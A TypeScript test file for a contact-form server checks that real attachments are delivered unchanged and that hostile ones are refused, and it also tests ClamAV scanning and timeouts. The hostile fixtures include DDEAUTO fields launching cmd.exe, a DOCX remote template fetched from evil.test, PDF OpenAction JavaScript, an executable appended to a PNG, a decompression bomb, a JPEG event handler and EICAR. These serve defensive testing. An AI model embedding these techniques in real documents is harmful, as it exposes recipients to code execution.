import { createHash } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { type Language } from '@verdalia/shared';
import { answerMessage } from '../src/http/answer.js';
import { SmtpSink } from '@verdalia/smtp-sink';
import { build, contactForm, listen, postContact, tempDir } from './helper.js';
import { eicar, startClamd } from './support/clamd.js';
import { freePort } from './support/free-port.js';
import { pictureInIsoImage } from '@verdalia/test-files/containers';
import * as hostile from '@verdalia/test-files/hostile-files';
import { docxWithHeader, headerPart } from '@verdalia/test-files/office-packages';
import { objectStreamBomb } from '@verdalia/test-files/pdf-files';
import { hiddenScripts } from '@verdalia/test-files/pdf-updates';
import { fieldParagraph } from '@verdalia/test-files/word-fields';
import { makeRealDocuments } from '@verdalia/test-files/real-documents';
import { TestSiteverify } from './support/siteverify.js';
import { mailServer } from './support/mail-server.js';

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

// The server's side of the attachment checks: the route hands each upload to the checker
// (packages/attachment-check, whose own tests judge the verdict matrix, the real-document
// corpus and mutated files) and answers its verdict. A few files of each kind prove the
// wiring: real documents delivered byte for byte, hostile ones refused in the visitor's
// language with nothing mailed or kept. Made once for their inputs (@verdalia/test-files).
const real = await makeRealDocuments();

/** A file a visitor might send: what it is, the name it is sent under, its bytes. */
interface Case {
  label: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
}
const file = (label: string, name: string, bytes: Case['bytes']): Case => ({
  label,
  name,
  bytes,
});

const accepted: Case[] = [
  file('a PDF printed by Chromium, with a web link', 'propuesta.pdf', () => real.pdf),
  file('a DOCX written by pandoc, with a link and a TOC field', 'propuesta.docx', () => real.docx),
  file('a Word 97 DOC written by LibreOffice', 'propuesta.doc', () => real.doc),
  file('a screenshot PNG taken by Chromium', 'captura.png', () => real.screenshot),
  file('a phone photo: JPEG with EXIF, GPS and a thumbnail', 'IMG_0412.jpg', () => real.photo),
  file(
    'a PDF drawn by cairo 1.16, its table naming an object it does not hold',
    'plano.pdf',
    () => real.cairoPdf,
  ),
];

/** Text of the page the real documents are made from, where a .doc field is written over it. */
const wordAnchor = 'Bonos verdes y finanzas climáticas para cooperativas de la región';
const refused: Case[] = [
  file('a PDF with JavaScript run on opening', 'factura.pdf', () =>
    hostile.pdfUpdate(
      real.pdf,
      { 90: '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file('a DOC with a DDEAUTO field that runs cmd.exe', 'factura.doc', () =>
    hostile.docWithField(
      real.doc,
      wordAnchor,
      String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`,
    ),
  ),
  file('a DOCX with a remote template (the remote-template pattern)', 'factura.docx', () =>
    hostile.docxWith(real.docx, [
      {
        name: 'word/_rels/settings.xml.rels',
        data: hostile.rels(
          hostile.relationship('rId1', 'attachedTemplate', 'https://evil.test/t.dotm', true),
        ),
      },
    ]),
  ),
  file('a PNG with an executable after IEND', 'captura.png', () =>
    Buffer.concat([real.screenshot, hostile.executable()]),
  ),
  // One of each kind the checker's reading as every reader reads found, through the server.
  file('a PDF whose script is in a name tree its table lists as free', 'factura.pdf', () =>
    hiddenScripts['a name tree listed as free'](real.pdf),
  ),
  file('a PDF whose object stream inflates to 60 MiB (415, not 503)', 'factura.pdf', () =>
    objectStreamBomb(60 * 1024 * 1024),
  ),
  file('a DOCX whose header, declared image/png, runs a DDEAUTO field', 'factura.docx', () =>
    docxWithHeader(real.docx, headerPart(fieldParagraph('DDEAUTO cmd "/k calc" ')), {
      contentType: 'image/png',
    }),
  ),
  file('a PNG in the system area of an ISO 9660 image', 'captura.png', () =>
    pictureInIsoImage(real.screenshot),
  ),
  file('a phone photo with an event handler in a JPEG comment', 'IMG_0412.jpg', () =>
    hostile.jpegWithSegment(
      real.photo,
      0xfe,
      Buffer.from(hostile.pictureMarkup.imgOnError, 'latin1'),
    ),
  ),
];

describe("attachments through the server: the checker's verdict is the answer", async () => {
  const { app, base, smtp, siteverify } = await mailServer();
  beforeEach(() => {
    siteverify.mode = { kind: 'success' };
  });

  const answerOf = (
    code: Parameters<typeof answerMessage>[0],
    lang: Language,
    success = false,
  ) => ({
    success,
    message: answerMessage(code, lang),
    code,
  });

  it.each(accepted)('accepts $label and mails it unchanged', async ({ name, bytes }) => {
    const file = await bytes();
    const count = smtp.received.length;
    const answer = await postContact(base, contactForm({}, { name, bytes: file }));
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual(answerOf('form.errors.success', 'es', true));
    const mail = (await smtp.waitFor(count + 1))[count]?.mail;
    expect(mail?.attachments).toHaveLength(1);
    expect(mail?.attachments[0]?.filename).toBe(name);
    expect(sha256(mail?.attachments[0]?.content ?? Buffer.alloc(0))).toBe(sha256(file));
  });

  const languages: Language[] = ['es', 'en', 'pt'];
  it.each(refused.map((entry, index) => ({ ...entry, lang: languages[index % 3] ?? 'es' })))(
    'refuses $label (415 fileType, $lang) and mails nothing',
    async ({ name, bytes, lang }) => {
      const file = await bytes();
      await app.deliveryWorker.idle();
      const count = smtp.received.length;
      const pending = (await app.outbox.status()).pending;
      const answer = await postContact(base, contactForm({ lang }, { name, bytes: file }));
      expect(answer.status).toBe(415);
      expect(answer.body).toEqual(answerOf('form.errors.fileType', lang));
      expect((await app.outbox.status()).pending).toBe(pending);
      expect(await readdir(app.outbox.tmpDir)).toEqual([]);
      await app.deliveryWorker.idle();
      expect(smtp.received.length).toBe(count);
    },
  );

  it('verifies the captcha before checking the content: a refused token is answered as such', async () => {
    siteverify.mode = { kind: 'error', codes: ['invalid-input-response'] };
    const before = siteverify.requests.length;
    const answer = await postContact(
      base,
      contactForm(
        { lang: 'en' },
        { name: 'factura.doc', bytes: hostile.docWithDirectoryCycle(real.doc) },
      ),
    );
    expect(answer.status).toBe(403);
    expect(answer.body).toEqual(answerOf('form.errors.captcha', 'en'));
    expect(siteverify.requests.length).toBe(before + 1);
  });

  it('still refuses at once, before the captcha, a file whose first bytes contradict its name', async () => {
    const before = siteverify.requests.length;
    const answer = await postContact(
      base,
      contactForm({}, { name: 'propuesta.pdf', bytes: hostile.executable() }),
    );
    expect(answer.status).toBe(415);
    expect(siteverify.requests.length).toBe(before);
  });
});

describe('attachments: the virus scan by a real clamd', async () => {
  const smtp = await SmtpSink.start();
  const siteverify = await TestSiteverify.start();
  const clamd = await startClamd(await tempDir('clamd'), { 'eicar.com': eicar });
  // A PDF carrying the EICAR text: it passes the content checks, so only clamd can stop it.
  const carrier = Buffer.concat([
    real.pdf,
    Buffer.from(`%${eicar.toString('latin1')}\n%%EOF\n`, 'latin1'),
  ]);
  const infected = await startClamd(await tempDir('clamd-carrier'), { 'factura.pdf': carrier });
  const env = {
    SMTP_URL: smtp.url,
    HCAPTCHA_VERIFY_URL: siteverify.url,
    HCAPTCHA_SECRET: '0xsecret-for-tests',
    RETRY_BASE_MS: '50',
    CLAMAV_TIMEOUT_MS: '1000',
  };
  afterAll(async () => {
    await clamd.stop();
    await infected.stop();
    await smtp.stop();
    await siteverify.stop();
  });

  it('mails a clean file and refuses one clamd finds (415 fileType)', async () => {
    const base = await listen(await build({ ...env, CLAMAV_URL: infected.url }));
    const count = smtp.received.length;
    const clean = await postContact(
      base,
      contactForm({}, { name: 'propuesta.pdf', bytes: real.pdf }),
    );
    expect(clean.status).toBe(200);
    await smtp.waitFor(count + 1);
    const found = await postContact(
      base,
      contactForm({ lang: 'pt' }, { name: 'factura.pdf', bytes: carrier }),
    );
    expect(found.status).toBe(415);
    expect(found.body.code).toBe('form.errors.fileType');
    expect(found.body.message).toBe(answerMessage('form.errors.fileType', 'pt'));
  });

  it('answers 503 attachmentUnchecked when clamd does not answer in time, and never waits without a file', async () => {
    const app = await build({ ...env, CLAMAV_URL: clamd.url, CLAMAV_TIMEOUT_MS: '2000' });
    const base = await listen(app);
    clamd.pause();
    try {
      const answered: string[] = [];
      const withFile = postContact(
        base,
        contactForm({ lang: 'en' }, { name: 'propuesta.pdf', bytes: real.pdf }),
      ).then((answer) => {
        answered.push('with a file');
        return answer;
      });
      const withoutFile = await postContact(base, contactForm({ lang: 'en' }));
      answered.push('without a file');
      expect(withoutFile.status).toBe(200);
      const unchecked = await withFile;
      // The message without a file was answered while the other one still waited for clamd.
      expect(answered).toEqual(['without a file', 'with a file']);
      expect(unchecked.status).toBe(503);
      expect(unchecked.body).toEqual({
        success: false,
        message: answerMessage('form.errors.attachmentUnchecked', 'en'),
        code: 'form.errors.attachmentUnchecked',
      });
      expect(await readdir(app.outbox.tmpDir)).toEqual([]);
    } finally {
      clamd.resume();
    }
  });

  it('answers 503 attachmentUnchecked when clamd is down', async () => {
    const app = await build({ ...env, CLAMAV_URL: `tcp://127.0.0.1:${await freePort()}` });
    const base = await listen(app);
    const answer = await postContact(
      base,
      contactForm({}, { name: 'propuesta.pdf', bytes: real.pdf }),
    );
    expect(answer.status).toBe(503);
    expect(answer.body.code).toBe('form.errors.attachmentUnchecked');
    expect(await readdir(app.outbox.tmpDir)).toEqual([]);
  });
});
